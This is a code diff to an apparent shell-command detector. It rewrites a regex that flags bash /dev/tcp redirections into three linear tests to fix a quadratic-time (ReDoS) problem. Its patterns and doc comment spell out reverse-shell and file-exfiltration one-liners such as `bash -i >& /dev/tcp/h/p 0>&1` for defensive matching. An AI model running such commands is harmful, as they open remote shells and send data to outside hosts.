@@ -242,7 +242,12 @@ export const TEMP_RUN_OR_HIDE: Pick<RegExp, "test"> = {
 
 const DEV_TCP = /\/dev\/(?:tcp|udp)\//i;
 /** A /dev/tcp redirection that carries a stream: a descriptor duplicated or opened both ways, or a file sent. */
-const DEV_TCP_CARRIES = /(?:>&|&>|<>|\d>&\d|<&\s*\d|\bexec\s+\d*\s*[<>])|\b(?:cat|tar|base64|gzip|dd)\b[^|;&]*>\s*\/dev\/(?:tcp|udp)\/|\b(?:ba|da|z|k)?sh\s[^|;&'"]*<\s*\/dev\/(?:tcp|udp)\/|(?<!\|)\|(?!\|)/;
+// Three tests, each linear: as one expression, `cat ... > /dev/tcp/` rescanned its segment from every `cat`, and
+// `exec\s+\d*\s*` every split of a run of blanks (quadratic; a ReDoS audit).
+const DEV_TCP_DUPLICATES = />&|&>|<>|\d>&\d|<&\s*\d|\bexec\s+(?:\d+\s*)?[<>]|(?<!\|)\|(?!\|)/;
+const FILE_TO_DEV_TCP = new InOrder(/[|;&]/, [/\b(?:cat|tar|base64|gzip|dd)\b/, />\s*\/dev\/(?:tcp|udp)\//]);
+const SHELL_FROM_DEV_TCP = new InOrder(/[|;&'"]/, [/\b(?:ba|da|z|k)?sh\s/, /<\s*\/dev\/(?:tcp|udp)\//]);
+const DEV_TCP_CARRIES: Pick<RegExp, "test"> = { test: (line) => DEV_TCP_DUPLICATES.test(line) || FILE_TO_DEV_TCP.test(line) || SHELL_FROM_DEV_TCP.test(line) };
 
 /**
  * bash's /dev/tcp carrying a shell or data: `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`, `cat f > /dev/tcp/...`,
